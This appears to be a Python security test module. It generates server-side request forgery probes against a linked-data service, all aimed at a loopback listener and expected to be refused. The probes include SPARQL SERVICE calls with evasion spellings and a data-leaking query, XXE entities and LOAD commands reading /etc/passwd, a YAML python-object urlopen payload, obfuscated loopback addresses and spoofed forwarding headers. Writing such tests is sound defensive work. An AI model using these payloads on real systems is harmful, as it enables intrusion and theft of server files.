"""Requests that try to have the service call somebody: in queries, documents, identifiers and headers."""

from __future__ import annotations

import json
from collections.abc import Iterator
from urllib.parse import quote

from attacks import FORM, Attack, asked, document, query

_SERVICE_REFUSED = (400, 403)


def outbound_attacks(port: int) -> list[Attack]:
    """All of them, aimed at a listener on loopback; every name occurs once."""
    there = f"http://127.0.0.1:{port}/"
    return [
        *_services(there),
        *_spellings(port),
        *_updates(there),
        *_datasets(there),
        *_json_ld(there),
        *_xml(there),
        *_crates(there),
        *_other_documents(there),
        *_identifiers(there),
        *_headers(there),
    ]


def _services(there: str) -> Iterator[Attack]:
    call = f"SERVICE <{there}> {{ ?s ?p ?o }}"
    texts = {
        "plain": f"SELECT * {{ {call} }}",
        "lower case": f"SELECT * {{ {call.replace('SERVICE', 'service')} }}",
        "mixed case": f"SELECT * {{ {call.replace('SERVICE', 'SerVice')} }}",
        "silent": f"SELECT * {{ SERVICE SILENT <{there}> {{ ?s ?p ?o }} }}",
        "no spaces": f"SELECT*{{SERVICE<{there}>{{?s?p?o}}}}",
        "behind a comparison": f"SELECT * {{ BIND(1 AS ?a) FILTER(1<2)SERVICE#>\n<{there}>{{ ?s ?p ?o }} }}",
        "bound variable": f"SELECT * {{ BIND(<{there}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
        "values": f"SELECT * {{ VALUES ?e {{ <{there}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
        "carrying data out": f"SELECT * {{ ?x a ?t BIND(IRI(CONCAT('{there}?leak=', STR(?x))) AS ?e) FILTER EXISTS {{ SERVICE ?e {{ ?s ?p ?o }} }} }}",
        "not exists": f"SELECT * {{ BIND(<{there}> AS ?e) FILTER NOT EXISTS {{ SERVICE ?e {{ ?s ?p ?o }} }} }}",
        "subselect": f"SELECT * {{ {{ SELECT * {{ {call} }} }} }}",
        "optional": f"SELECT * {{ OPTIONAL {{ {call} }} }}",
        "union": f"SELECT * {{ {{ ?s ?p ?o }} UNION {{ {call} }} }}",
        "minus": f"SELECT * {{ ?s ?p ?o MINUS {{ {call} }} }}",
        "graph": f"SELECT * {{ GRAPH ?g {{ {call} }} }}",
        "nested services": f"SELECT * {{ SERVICE <{there}> {{ {call} }} }}",
        "deep": "SELECT * " + "{" * 30 + call + "}" * 30,
        "construct": f"CONSTRUCT {{ ?s ?p ?o }} {{ {call} }}",
        "describe": f"DESCRIBE ?s {{ {call} }}",
        "ask": f"ASK {{ {call} }}",
        "prefixed": f"PREFIX x: <{there}> SELECT * {{ SERVICE x:a {{ ?s ?p ?o }} }}",
        "glued to a prefix": f"PREFIX x: <{there}> SELECT * {{ SERVICEx:a {{ ?s ?p ?o }} }}",
        "prefix named like it": f"PREFIX servicex: <{there}> PREFIX x: <{there}> SELECT * {{ servicex:a {{ ?s ?p ?o }} }}",
        "relative": f"BASE <{there}> SELECT * {{ SERVICE <a> {{ ?s ?p ?o }} }}",
        "comment between": f"SELECT * {{ SERVICE # <a>\n # {{\n <{there}> {{ ?s ?p ?o }} }}",
        "escaped keyword": f"SELECT * {{ \\u0053ERVICE <{there}> {{ ?s ?p ?o }} }}",
        "after a string": f"SELECT * {{ BIND('''a'b''' AS ?a)SERVICE<{there}>{{ ?s ?p ?o }} }}",
        "after a path": f"SELECT * {{ ?a <b:c>/<b:d>* ?e .SERVICE ?e {{ ?s ?p ?o }} BIND(<{there}> AS ?e) }}",
        "exists in having": f"SELECT ?t (COUNT(*) AS ?n) {{ ?x a ?t }} GROUP BY ?t HAVING (EXISTS {{ {call} }})",
    }  # fmt: skip
    for name, text in texts.items():
        yield query(f"SERVICE {name}", text, *_SERVICE_REFUSED)


def _spellings(port: int) -> Iterator[Attack]:
    for host in (
        f"localhost:{port}", f"[::1]:{port}", f"[::ffff:127.0.0.1]:{port}", f"2130706433:{port}", f"0177.0.0.1:{port}",
        f"0x7f.0.0.1:{port}", f"127.1:{port}", f"0:{port}", f"0.0.0.0:{port}", f"user@127.0.0.1:{port}",
        f"127.0.0.1:{port}#@example.org", f"LOCALHOST.:{port}",
    ):  # fmt: skip
        yield query(
            f"SERVICE at {host}", f"SELECT * {{ SERVICE <http://{host}/> {{ ?s ?p ?o }} }}", *_SERVICE_REFUSED
        )
    for address in (
        "file:///etc/passwd", f"gopher://127.0.0.1:{port}/_", f"ftp://127.0.0.1:{port}/a", "http+unix://%2Frun/a",
        f"https://127.0.0.1:{port}/", f"ws://127.0.0.1:{port}/",
    ):  # fmt: skip
        yield query(
            f"SERVICE at {address}", f"SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}", *_SERVICE_REFUSED
        )


def _updates(there: str) -> Iterator[Attack]:
    texts = {
        "load": f"LOAD <{there}>",
        "load silent": f"LOAD SILENT <{there}> INTO GRAPH <urn:x>",
        "load a file": "LOAD <file:///etc/passwd>",
        "insert where": f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{there}> {{ ?s ?p ?o }} }}",
        "second operation": f"CLEAR SILENT GRAPH <urn:x>; LOAD <{there}>",
        "behind a prefix": f"PREFIX a: <b:> LOAD <{there}>",
    }
    for name, text in texts.items():
        yield query(f"as a query: {name}", text, *_SERVICE_REFUSED)
        yield Attack(
            name=f"as an update: {name}",
            path="/sparql",
            content=text.encode(),
            headers={"Content-Type": "application/sparql-update"},
            statuses=(401, 403),
        )
    yield Attack(
        name="update in a form",
        path="/sparql",
        content=f"update={quote(f'LOAD <{there}>')}".encode(),
        headers={"Content-Type": FORM},
        statuses=(401, 403),
    )


def _datasets(there: str) -> Iterator[Attack]:
    yield query("FROM", f"SELECT * FROM <{there}> {{ ?s ?p ?o }}")
    yield query("FROM NAMED", f"SELECT * FROM NAMED <{there}> {{ GRAPH ?g {{ ?s ?p ?o }} }}")
    yield query("GRAPH", f"SELECT * {{ GRAPH <{there}> {{ ?s ?p ?o }} }}")
    for name in ("default-graph-uri", "named-graph-uri", "using-graph-uri"):
        yield query(name, "SELECT * { ?s ?p ?o }", **{name: there})
        yield asked(f"{name} in the address", "/sparql", query="SELECT * { ?s ?p ?o }", **{name: there})


def _json_ld(there: str) -> Iterator[Attack]:
    thing = {"@id": "http://example.org/a", "http://schema.org/name": "A"}
    contexts: dict[str, object] = {
        "context": there,
        "array": [{"a": "http://example.org/"}, there],
        "import": {"@version": 1.1, "@import": there},
        "scoped": {"@version": 1.1, "about": {"@id": "http://schema.org/about", "@context": there}},
        "file": "file:///etc/passwd",
        "relative": "../../../../etc/passwd",
        "loopback-name": there.replace("127.0.0.1", "localhost"),
    }
    for name, context in contexts.items():
        content = json.dumps({"@context": context, **thing, "about": {"name": "B"}})
        for path in ("/records", "/validate"):
            yield document(f"{name}.jsonld", content, path=path)
    inner = json.dumps(
        {**thing, "http://schema.org/about": {"@context": there, "@id": "http://example.org/b"}}
    )
    yield document("inner.jsonld", inner)


def _xml(there: str) -> Iterator[Attack]:
    rdf = '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:s="http://schema.org/"><rdf:Description rdf:about="http://example.org/a"><s:name>{}</s:name></rdf:Description></rdf:RDF>'
    ome = '<OME xmlns="http://www.openmicroscopy.org/Schemas/OME/2016-06" {}>{}</OME>'
    types = {
        "system": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{there}">]>',
        "public": f'<!DOCTYPE r PUBLIC "-//A//B" "{there}">',
        "parameter": f'<!DOCTYPE r [<!ENTITY % x SYSTEM "{there}"> %x;]>',
        "file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    }
    for name, doctype in types.items():
        yield document(f"{name}.rdf", doctype + rdf.format("&x;"), 400, 422)
        yield document(f"{name}.ome.xml", doctype + ome.format("", "&x;"), 400, 422)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{there}"/>'
    yield document("include.ome.xml", ome.format("", include))
    schema = f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {there}"'
    yield document("schema.ome.xml", ome.format(schema, ""))
    yield document("style.ome.xml", f'<?xml-stylesheet href="{there}"?>' + ome.format("", ""))
    pixels = '<Image ID="Image:0"><Pixels ID="Pixels:0" DimensionOrder="XYZCT" Type="uint8" SizeX="1" SizeY="1" SizeZ="1" SizeC="1" SizeT="1"><TiffData><UUID FileName="{0}">urn:uuid:7f2a8c11-d0b7-4f2a-8c11-d0b75f2a8c11</UUID></TiffData></Pixels></Image>'
    yield document("elsewhere.ome.xml", ome.format("", pixels.format(there)))
    yield document("binary-only.ome.xml", ome.format("", f'<BinaryOnly MetadataFile="{there}" UUID="urn:uuid:7f2a8c11-d0b7-4f2a-8c11-d0b75f2a8c11"/>'))  # fmt: skip


def _crates(there: str) -> Iterator[Attack]:
    descriptor = {
        "@id": "ro-crate-metadata.json", "@type": "CreativeWork", "about": {"@id": "./"},
        "conformsTo": {"@id": f"{there}ro/crate/1.1"},
    }  # fmt: skip
    root = {
        "@id": "./", "@type": "Dataset", "name": "A crate", "datePublished": "2025-01-01",
        "hasPart": [{"@id": there}, {"@id": "http://localhost/a.tif"}], "subjectOf": {"@id": f"{there}ro-crate-metadata.json"},
        "distribution": {"@id": f"{there}all.zip"}, "license": {"@id": f"{there}licence"},
    }  # fmt: skip
    parts = {"@id": there, "@type": ["File", "Dataset"], "conformsTo": {"@id": there}, "contentUrl": there}
    for name, context in (
        ("local", "https://w3id.org/ro/crate/1.1/context"),
        ("remote", there),
        ("both", ["https://w3id.org/ro/crate/1.1/context", there]),
    ):
        content = json.dumps({"@context": context, "@graph": [descriptor, root, parts]})
        yield document(f"{name}-ro-crate-metadata.json", content)


def _other_documents(there: str) -> Iterator[Attack]:
    prefixes = "@prefix owl: <http://www.w3.org/2002/07/owl#> . @prefix sh: <http://www.w3.org/ns/shacl#> . @prefix s: <http://schema.org/> .\n"
    yield document(
        "imports.ttl", f"{prefixes}<http://example.org/o> a owl:Ontology ; owl:imports <{there}> ."
    )
    yield document("shapes.ttl", f"{prefixes}<http://example.org/o> s:name 'A' ; sh:shapesGraph <{there}> ; sh:entailment <{there}> .", path="/validate")  # fmt: skip
    rule = f"{prefixes}<http://example.org/s> a sh:NodeShape ; sh:targetClass s:Thing ; sh:sparql [ sh:select 'SELECT $this {{ SERVICE <{there}> {{ ?s ?p ?o }} }}' ] . <http://example.org/a> a s:Thing ."
    yield document("rule.ttl", rule, path="/validate")
    script = f"{prefixes}<http://example.org/s> a sh:NodeShape ; sh:targetClass s:Thing ; sh:js [ sh:jsLibrary [ sh:jsLibraryURL '{there}' ] ; sh:jsFunctionName 'f' ] . <http://example.org/a> a s:Thing ."
    yield document("script.ttl", script, path="/validate")
    yield document(
        "base.ttl", f"@base <{there}> . <a> <http://schema.org/name> 'A' ; <http://schema.org/image> <b> ."
    )
    yield document("see.ttl", f"<{there}> <http://www.w3.org/2000/01/rdf-schema#seeAlso> <{there}> ; <http://schema.org/url> <{there}> .")  # fmt: skip
    yield document("include.yaml", f"type: Study\nname: !include {there}\n", 400, 422)
    yield document("fetch.yaml", f"type: Study\nname: !!python/object/apply:urllib.request.urlopen ['{there}']\n", 400, 422)  # fmt: skip
    study = {
        "type": "Study",
        "id": there,
        "name": "A",
        "license": there,
        "url": there,
        "file": [{"type": "File", "name": "a", "url": there}],
    }
    yield document("study.json", json.dumps(study))
    yield document("list.txt", there)


def _identifiers(there: str) -> Iterator[Attack]:
    for id in (
        there, f"{there}10.5072/a", "https://doi.org/10.5072/a", "doi:10.5072/a", "https://orcid.org/0000-0002-1825-0097",
        "https://ror.org/03yrm5c26", "rrid:AB_300798", "hdl:21.11157/a", f"https://doi.org@{there[7:]}10.5072/a",
        "http://127.0.0.1.doi.org/10.5072/a", "file:///etc/passwd", "RRID:CVCL_0030",
    ):  # fmt: skip
        yield asked(f"resolve {id}", "/identifiers", id=id, resolve="true")
    yield Attack(
        name="resolve by its page",
        path="/identifiers/doi/10.5072/a?resolve=true",
        headers={"Accept": "text/html"},
    )
    yield Attack(name="resolve a path", path=f"/identifiers/doi/{there}?resolve=true")
    yield Attack(name="refresh by POST", path="/identifiers/doi/10.5072/a", method="POST", content=b"")
    yield document("check.json", json.dumps([there, "doi:10.5072/a"] * 5), path="/identifiers/check")
    yield asked("term by address", "/terms", q=there, field="imaging-method")
    yield Attack(name="a term elsewhere", path=f"/terms/{quote(there, safe='')}")
    yield asked("OLS term elsewhere", "/ols4/api/terms", iri=there)
    yield asked("named query", "/queries/datasets-by-person", person=there)
    yield asked("search", "/records", q=there)
    yield asked("match", "/identifiers/match", name=there)


def _headers(there: str) -> Iterator[Attack]:
    host = there[7:-1]
    for name, value in {
        "X-Forwarded-Host": host, "X-Forwarded-For": host, "Forwarded": f"for={host};host={host}", "Referer": there,
        "X-Original-URL": there, "Content-Location": there, "Link": f'<{there}>; rel="http://www.w3.org/ns/json-ld#context"',
        "Profile": there, "Accept-Profile": f"<{there}>", "Accept": f'application/ld+json;profile="{there}"',
    }.items():  # fmt: skip
        yield Attack(name=f"header {name}", path="/records", headers={name: value})
    yield Attack(
        name="a context by header",
        path="/records",
        content=b'{"@id": "http://example.org/a", "name": "A"}',
        headers={
            "Content-Type": "application/json",
            "Link": f'<{there}>; rel="http://www.w3.org/ns/json-ld#context"',
        },
    )
    yield Attack(name="absolute form", path=f"//{host}/records")
